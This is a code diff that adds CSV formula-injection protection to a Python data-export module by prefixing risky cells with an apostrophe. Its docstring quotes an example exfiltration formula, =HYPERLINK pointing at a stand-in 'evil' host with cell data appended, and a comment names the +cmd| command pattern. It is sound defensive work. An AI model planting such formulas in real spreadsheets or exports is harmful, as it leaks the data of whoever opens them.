@@ -78,10 +78,28 @@ def iter_records(
         backend.close()
 
 
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google
+# Sheets (=HYPERLINK(...), +cmd|..., @SUM(...)); tab and carriage return too.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(text: str) -> str:
+    """The OWASP rule against CSV formula injection: a cell that would start a
+    formula gets a leading apostrophe, so a spreadsheet shows it as text.
+
+    Titles and texts come from strangers' pages; a title like
+    ``=HYPERLINK("http://evil/?"&A1, "click")`` must not run when an analyst
+    opens the export. Only CSV is changed: JSONL and Parquet stay exact.
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def _cell(value: Any) -> Any:
     if isinstance(value, list | dict):
-        return json.dumps(value, ensure_ascii=False)
-    return "" if value is None else value
+        return neutralise(json.dumps(value, ensure_ascii=False))
+    if value is None:
+        return ""
+    return neutralise(value) if isinstance(value, str) else value
 
 
 def write_jsonl(records: Iterable[dict[str, Any]], out: IO[str], tick: Callable[[], None]) -> int:
@@ -94,7 +112,12 @@ def write_jsonl(records: Iterable[dict[str, Any]], out: IO[str], tick: Callable[
 
 
 def write_csv(records: Iterable[dict[str, Any]], out: IO[str], tick: Callable[[], None]) -> int:
-    """CSV with lists and objects as JSON text in their cells (spreadsheets read it)."""
+    """CSV with lists and objects as JSON text in their cells (spreadsheets read it).
+
+    A cell that would start a formula is neutralised (:func:`neutralise`, the
+    OWASP rule); cells holding a quote, a comma or a line break are quoted,
+    with quotes doubled, so no cell can spill into the next.
+    """
     writer = csv.DictWriter(out, fieldnames=FIELDS, extrasaction="ignore")
     writer.writeheader()
     n = 0
